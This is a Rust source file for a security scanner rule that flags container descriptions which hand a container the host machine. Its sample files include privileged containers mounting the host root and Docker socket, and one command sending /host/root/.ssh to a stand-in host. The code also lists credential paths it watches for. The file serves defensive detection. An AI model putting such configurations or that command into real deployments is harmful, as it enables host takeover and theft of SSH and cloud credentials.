//! `supply-container-file`: a file that describes containers gives one the
//! machine.

use crate::finding::{Confidence, Severity};
use crate::scan::rule::{Check, Reporter, Rule, Sample, TextFile};
use crate::scan::url;
use crate::skill::path::{file_name, suffix};
use crate::text::Span;

/// The rule.
pub static RULE: Rule = Rule {
    id: "supply-container-file",
    title: "Describes a container that owns the machine",
    severity: Severity::Warning,
    confidence: Confidence::Medium,
    why: "A privileged container with the root of the disk or the socket of the runtime inside of it is the machine itself, and it starts with the rest of the stack.",
    fix: "Give the container the one folder and the rights that it needs.",
    references: &["CWE-250", "ATT&CK T1611"],
    hits: &[
        Sample::File(
            "docker-compose.yml",
            "services:\n  a:\n    image: demo\n    privileged: true\n    pid: host\n    volumes:\n      - /:/host\n",
        ),
        Sample::File(
            "k8s/a.yaml",
            "spec:\n  hostPID: true\n  containers:\n    - image: demo\n      securityContext:\n        privileged: true\n  volumes:\n    - name: r\n      hostPath:\n        path: /\n",
        ),
        Sample::File(
            "compose.yaml",
            "services:\n  a:\n    image: demo\n    volumes:\n      - /:/host\n      - /var/run/docker.sock:/var/run/docker.sock\n    command: [\"--push\", \"https://metrics.example.com\", \"--paths\", \"/host/root/.ssh\"]\n",
        ),
    ],
    misses: &[
        Sample::File(
            "docker-compose.yml",
            "services:\n  a:\n    image: postgres:16\n    volumes:\n      - ./data:/var/lib/postgresql/data\n",
        ),
        Sample::File(
            "compose.yaml",
            "services:\n  exporter:\n    image: prom/node-exporter\n    pid: host\n    volumes:\n      - /:/host:ro,rslave\n",
        ),
        Sample::File(
            "compose.yaml",
            "services:\n  proxy:\n    image: traefik\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock:ro\n",
        ),
    ],
    check: Check::Text {
        anchors: &["privileged", "docker.sock", "hostpath", "/:/"],
        check,
    },
};

/// What one description gives away.
#[derive(Default)]
struct Given {
    privileged: Option<Span>,
    root: Option<Span>,
    socket: Option<Span>,
    processes: bool,
    reads_secrets: bool,
    sends: bool,
}

fn check(file: &TextFile<'_>, reporter: &mut Reporter<'_>) {
    if !matches!(suffix(file.path).as_str(), "yml" | "yaml" | "json")
        || file_name(file.path).starts_with("values")
    {
        return;
    }
    let given = given(file.text);
    let Some(place) = given.root.or(given.privileged).or(given.socket) else {
        return;
    };
    let owns = given.root.is_some()
        && (given.privileged.is_some() || given.socket.is_some() || given.processes);
    if given.reads_secrets && (given.root.is_some() || given.privileged.is_some()) {
        reporter
            .raise(place)
            .severity(Severity::Blocker)
            .message("Has a container read secrets of the machine that it is given");
    } else if owns {
        let everything = given.privileged.is_some() && (given.socket.is_some() || given.processes);
        reporter
            .raise(place)
            .severity(if given.sends || everything {
                Severity::Blocker
            } else {
                Severity::Error
            });
    } else if given.root.is_some() {
        reporter
            .raise(place)
            .message("Gives a container the root of the disk");
    } else if given.privileged.is_some() && given.socket.is_some() {
        reporter.raise(place);
    }
}

/// Most lines that are looked at.
const MAX_LINES: usize = 20_000;

fn given(text: &str) -> Given {
    let mut given = Given::default();
    let mut start = 0;
    let mut host_path = false;
    for line in text.split_inclusive('\n').take(MAX_LINES) {
        let span = Span::new(start, start + line.trim_end().len());
        start += line.len();
        let bare = line.trim_start_matches([' ', '\t', '-', '"', '{']).trim();
        if bare.starts_with('#') {
            continue;
        }
        let flat: String = bare
            .chars()
            .filter(|letter| !matches!(letter, '"' | '\'' | ' ' | ',' | '{' | '}'))
            .collect();
        if flat.starts_with("privileged:true") {
            given.privileged.get_or_insert(span);
        }
        if flat.starts_with("pid:host") || flat.starts_with("hostPID:true") {
            given.processes = true;
        }
        let mount = bare.trim_matches(['"', '\'']);
        // `/:/host`, not `/:/host:ro`.
        if mount.starts_with("/:/") && !mount.contains(":ro") || flat == "source:/" {
            given.root.get_or_insert(span);
        }
        let path = flat.strip_prefix("hostPath:").unwrap_or(&flat);
        if (host_path || path.len() < flat.len()) && path == "path:/" {
            given.root.get_or_insert(span);
        }
        host_path = flat == "hostPath:";
        if bare.contains("docker.sock") && !mount.ends_with(":ro") {
            given.socket.get_or_insert(span);
        }
        if is_argument(&flat) {
            given.reads_secrets |= [
                "/root/.ssh",
                "/etc/shadow",
                "/.aws/",
                "/.kube/",
                "/root/.aws",
            ]
            .iter()
            .any(|place| bare.contains(place));
            given.sends |= url::all(bare).any(|url| {
                let host = url.host.of(bare);
                host.contains('.') && !url::is_local(host)
            });
        }
    }
    given
}

/// Whether a line says what a container runs.
fn is_argument(flat: &str) -> bool {
    [
        "command:",
        "args:",
        "entrypoint:",
        "[--",
        "--",
        "sh",
        "bash",
    ]
    .iter()
    .any(|start| flat.starts_with(start))
}
